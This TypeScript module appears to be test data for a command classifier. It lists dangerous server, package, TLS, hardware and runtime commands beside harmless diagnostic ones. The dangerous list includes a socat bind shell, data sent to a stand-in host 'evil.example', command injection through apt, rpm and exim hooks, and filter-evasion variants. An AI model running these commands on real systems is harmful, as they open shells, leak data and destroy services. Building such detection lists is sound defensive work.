/** Servers, mail, TLS, packages, hardware and runtimes: what stops or changes them, and how people look at them. */
import { lines } from './lines.ts';

export const dangerous = lines(String.raw`
nginx -s stop
nginx -s quit
nginx -s reload
nginx -t -s stop
nginx -g 'daemon off;'
nginx -c /tmp/x.conf
nginx
apachectl stop
apachectl restart
apachectl graceful-stop
apachectl -k stop
httpd -k stop
httpd -X
apache2ctl graceful
haproxy -f x -D -sf 1
echo 'disable server web/s1' | socat stdio /var/run/haproxy.sock
echo 'shutdown sessions server web/s1' | socat - /run/haproxy/admin.sock
echo 'show stat; disable frontend x' | socat stdio /var/run/haproxy.sock
printf 'set server a/b state maint\n' | socat stdio /run/haproxy/admin.sock
socat TCP-LISTEN:1,fork EXEC:sh
socat - /var/run/docker.sock
echo "show info" | socat stdio tcp:evil.example:1
socat stdio /run/haproxy/admin.sock < x
varnishadm ban 'req.url ~ .'
varnishadm stop
varnishlog -w x
caddy stop
caddy run
pm2 delete all
pm2 kill
pm2 restart all
squid -k shutdown
php-fpm -R
postsuper -d ALL
postsuper -h ALL
postqueue -f
postfix stop
postconf -e 'relayhost=evil'
postconf relayhost=evil
exim -Mrm 1
exim -qff
exim -be '${'$'}{run{rm x}}'
newaliases
openssl x509 -in a -out /etc/ssl/x.pem
openssl genrsa -out /etc/ssl/private/x.key 2048
openssl req -new -x509 -keyout k -out c
openssl rsa -in k -out k2
openssl pkcs12 -export -out x.p12 -inkey k
openssl ca -revoke x
openssl enc -d -aes-256-cbc -in x | sh
openssl s_client -connect localhost:1 -keylogfile /tmp/x
openssl s_server -port 1
openssl engine -t dynamic -pre SO_PATH:/tmp/x.so
openssl x509 -engine /tmp/x.so
certbot delete --cert-name x
certbot revoke --cert-path x
certbot renew --force-renewal
certbot renew --pre-hook 'rm -rf /x'
keytool -delete -alias x -keystore y
keytool -list -J-agentpath:/tmp/x
apt-get remove nginx
apt-get purge -y nginx
apt autoremove
apt-get install nginx
apt-get install nginx-
apt-get clean
apt-get dist-upgrade
apt-get -o APT::Update::Pre-Invoke::=sh update
apt-cache -o x=y policy
dpkg -i x.deb
dpkg -r nginx
dpkg --force-all -P libc6
dpkg --configure -a
dpkg -l --pre-invoke=sh
yum remove -y nginx
yum install nginx
yum history undo 5
yum clean all
dnf downgrade x
dnf autoremove
dnf -c /tmp/x list
rpm -e --nodeps glibc
rpm -Uvh x.rpm
rpm -qa --pipe sh
rpm --eval '%(rm x)'
rpm -q --qf '%{NAME}' --define '%x %(rm y)' z
rpm --rebuilddb
zypper rm x
apk del x
apk add x
pacman -Rns x
pacman -Syu
pip install x
pip uninstall -y x
pip3 install -r r.txt
npm install x
npx x
gem install x
snap remove x
snap install x
snap refresh
add-apt-repository ppa:x/y
update-alternatives --set python /x
needrestart -r a
chkconfig x off
ipmitool power off
ipmitool chassis power cycle
ipmitool sel clear
ipmitool raw 0x0 0x1
ipmitool -H bmc -U a -P b power reset
nvidia-smi --gpu-reset
nvidia-smi -pl 100
nvidia-smi -pm 1
nvidia-smi -f /etc/x
dmidecode --dump-bin x
cpupower frequency-set -g performance
setenforce 0
semodule -r x
aa-teardown
auditctl -D
auditctl -e 0
auditctl -l -D
ausearch --checkpoint /etc/x
fail2ban-client stop
fail2ban-client set sshd unbanip 1.2.3.4
faillock --reset
jmap -dump:format=b,file=/tmp/x 1
jmap -histo:live 1
jcmd 1 GC.heap_dump /tmp/x
jcmd 1 GC.run
jcmd 1 VM.set_flag x y
jcmd 1 JVMTI.agent_load /tmp/x.so
jcmd 1 -f x
jcmd 1 Compiler.directives_clear
jcmd 1 Thread.dump_to_file /tmp/x
jinfo -flag +X 1
jstack -F 1
py-spy record -o /etc/x --pid 1
py-spy top -- rm x
strace -p 1
strace rm x
gdb -p 1 -batch -ex 'call exit(1)'
bpftrace -e 'BEGIN { system("rm x"); }'
perf record -a
perf stat rm x
hwclock --systohc
hwclock -w
hwclock --set --date='2000-01-01'
timedatectl set-time 2000-01-01
chronyc makestep
ntpdate pool.ntp.org
tuned-adm off
zramctl --reset /dev/zram0
useradd x
userdel -r x
passwd root
usermod -aG sudo x
crontab -r
crontab x
sysctl -w vm.drop_caches=3
modprobe -r x
rmmod x
dmesg -C
turbostat rm x
python -c 'import os; os.remove("x")'
python3 -c "__import__('os').system('rm x')"
perl -e 'unlink "x"'
perl -pi -e 's/a/b/' f
ruby -e 'File.delete("x")'
node -e 'require("fs").rmSync("x")'
php -r 'unlink("x");'
java -jar x.jar
nginx -t && nginx -s stop
nginx -t; rm -rf /x
rpm -qa | xargs rpm -e
dpkg -l | awk '{print $2}' | xargs apt-get purge -y
sudo -n apt-get -y purge nginx
env -i apt-get purge nginx
$(which apt-get) purge nginx
a=apt-get; $a purge nginx
apt-get pur""ge nginx
`);

export const diagnostics = lines(String.raw`
nginx -t
nginx -T
nginx -T | grep server_name
nginx -V 2>&1 | tr ' ' '\n'
nginx -v
sudo nginx -t
apachectl -t
apachectl configtest
apachectl -S
apache2ctl -M
httpd -S
httpd -v
haproxy -c -f /etc/haproxy/haproxy.cfg
haproxy -vv
echo "show stat" | socat stdio /var/run/haproxy.sock
echo "show info" | sudo socat stdio /run/haproxy/admin.sock
echo "show servers state" | socat - UNIX-CONNECT:/var/lib/haproxy/stats
echo "show errors" | socat unix-connect:/var/run/haproxy.sock stdio
varnishstat -1
varnishadm backend.list
caddy validate --config /etc/caddy/Caddyfile
caddy version
php-fpm -t
pm2 list
pm2 status
passenger-status
mailq
mailq | tail -1
postqueue -p
postconf -n
postconf mynetworks
postfix status
exim -bpc
exim -bp | head
qshape deferred
openssl version
openssl x509 -in /etc/nginx/ssl/site.crt -noout -dates
openssl x509 -noout -enddate -in /etc/letsencrypt/live/example.com/fullchain.pem
openssl x509 -text -noout -in cert.pem
openssl x509 -in cert.pem -noout -subject -issuer
openssl x509 -checkend 604800 -noout -in cert.pem
echo | openssl s_client -connect localhost:443 -servername example.com 2>/dev/null | openssl x509 -noout -dates
openssl s_client -connect 127.0.0.1:443 </dev/null
openssl verify -CAfile ca.pem cert.pem
openssl req -in site.csr -noout -text
openssl crl -in x.crl -noout -text
openssl ciphers -v
certbot certificates
keytool -list -keystore /etc/pki/java/cacerts
apt list --installed
apt list --upgradable 2>/dev/null
apt-cache policy nginx
apt-cache show nginx
apt show nginx
apt-mark showhold
dpkg -l
dpkg -l | grep nginx
dpkg -l 'linux-image*'
dpkg -s nginx
dpkg -L nginx
dpkg -S /usr/sbin/nginx
dpkg --get-selections
dpkg-query -W nginx
yum list installed
yum list installed | grep kernel
yum info nginx
yum history
yum history list
yum check-update
yum repolist
dnf history info 12
dnf list --installed
dnf repoquery --whatprovides /usr/sbin/nginx
dnf updateinfo list security
rpm -qa
rpm -qa --last | head
rpm -qi nginx
rpm -ql nginx
rpm -qf /usr/sbin/nginx
rpm -V nginx
rpm -q kernel
rpm -q --changelog openssl | head
zypper lu
zypper se -i nginx
apk info -vv
apk list --installed
pip list
pip freeze
pip show requests
pip3 list --outdated
npm ls -g --depth=0
gem list
snap list
snap services
needrestart -b
needs-restarting -r
dmidecode -t memory
dmidecode -t system
lspci
lspci -nnk
lsusb
lscpu
lsmem
lshw -short
numactl --hardware
numastat -m
nvidia-smi
nvidia-smi -q
nvidia-smi --query-gpu=utilization.gpu,memory.used --format=csv
nvidia-smi topo -m
ipmitool sel list
ipmitool sel elist
ipmitool sdr
ipmitool sensor list
ipmitool chassis status
sensors
ethtool eth0
ethtool -S eth0
ethtool -i eth0
edac-util -v
turbostat --num_iterations 1 --quiet
cpupower frequency-info
getenforce
sestatus
aa-status
getsebool -a
semodule -l
auditctl -l
auditctl -s
ausearch -m avc -ts recent
ausearch -k sshd_config -i
aureport --summary
aureport -au
fail2ban-client status
fail2ban-client status sshd
iptables -L -n -v
iptables -S
iptables -t nat -L -n
ip6tables -L
nft list ruleset
ufw status verbose
firewall-cmd --list-all
firewall-cmd --state
jps -lv
jstack 1234
jstack -l 1234
jstack 1234 | grep -A 20 BLOCKED
jmap -histo 1234 | head -30
jmap -heap 1234
jcmd
jcmd 1234 Thread.print
jcmd 1234 GC.heap_info
jcmd 1234 VM.native_memory summary
jcmd 1234 VM.flags
jcmd 1234 VM.uptime
jinfo -flags 1234
jstat -gcutil 1234 1000 5
py-spy dump --pid 1234
chronyc tracking
chronyc sources -v
ntpq -p
ntpq -pn
timedatectl
timedatectl status
hwclock --show
tuned-adm active
getent hosts db.internal
getent passwd app
id app
who
w
last -20
lastlog
lastb -5
crontab -l
crontab -u root -l
sysctl -a
sysctl net.core.somaxconn
lsmod
modinfo nvme
dmesg -T | tail -50
dmesg --level=err,warn
uname -a
cat /proc/loadavg
cat /proc/meminfo
java -version
python3 --version
node --version
perl -v
ruby -v
go version
docker --version
cloud-init status
amazon-linux-extras list
perf stat -a sleep 1
perf top --stdio
`);
